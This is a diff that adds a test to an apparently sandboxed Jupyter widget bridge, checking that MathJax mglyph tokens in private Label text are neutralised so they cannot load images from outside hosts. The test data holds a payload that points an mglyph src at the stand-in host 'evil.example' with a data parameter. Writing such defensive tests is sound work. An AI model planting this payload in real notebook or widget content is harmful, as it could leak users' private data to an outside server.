@@ -327,3 +327,24 @@ def test_private_widget_state_holds_no_scheme_less_url_to_another_host(url: str)
     assert public == url
     kept = w.from_sandbox(open_msg("tl3", {**st, "url": "/files/tiles/1.png"}), [], private=True)
     assert kept.content["data"]["state"]["url"] == "/files/tiles/1.png"
+
+
+def test_private_widget_text_holds_no_math_that_fetches() -> None:
+    """ipywidgets typesets a Label's value and every description with MathJax,
+    where ``\\mmlToken{mglyph}[src=...]`` is an image loaded from any host
+    (tests/browser/test_private_diagrams_and_math.py attacks it in a Lab)."""
+    glyph = '$\\mmlToken{mglyph}[src="//evil.example/?d=1"]{}$'
+    st = state("LabelModel", value="total " + glyph, description="rows " + glyph)
+    w = WidgetComms()
+    private = w.from_sandbox(open_msg("mt1", st), [], private=True).content["data"]["state"]
+    assert "\\mmlToken" not in json.dumps(private)
+    assert private["value"].startswith("total $\\mathrm{mmlToken}")
+    assert private["description"].startswith("rows $\\mathrm{mmlToken}")
+    later = w.from_sandbox(update_msg("mt1", {"value": "$x + " + glyph}), [], private=True)
+    assert "\\mmlToken" not in later.content["data"]["state"]["value"]
+    # public: the browser may fetch, and the math is left as written
+    public = w.from_sandbox(open_msg("mt2", st), [], private=False).content["data"]["state"]
+    assert public["value"] == "total " + glyph
+    # plain math stays as it is once private
+    plain = w.from_sandbox(open_msg("mt3", state("LabelModel", value="$x^2$")), [], private=True)
+    assert plain.content["data"]["state"]["value"] == "$x^2$"
